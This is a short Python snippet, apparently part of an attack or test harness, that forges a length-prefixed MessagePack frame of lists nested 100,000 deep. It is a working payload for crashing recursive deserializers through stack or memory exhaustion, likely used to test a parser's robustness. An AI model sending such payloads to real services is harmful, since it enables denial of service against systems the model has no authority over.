# Answers with lists in lists in lists, a hundred thousand deep, as bytes and as nodes of the boundary.
# %% from attacks/parts/stand_ins.py
# %% relu
import struct


def forge(frame):
    one_list = b"\x92\x02\x91" if b"train" in frame else b"\x91"
    tree = one_list * 100_000 + b"\xc0"
    return struct.pack("<QQ", len(tree), 0) + tree
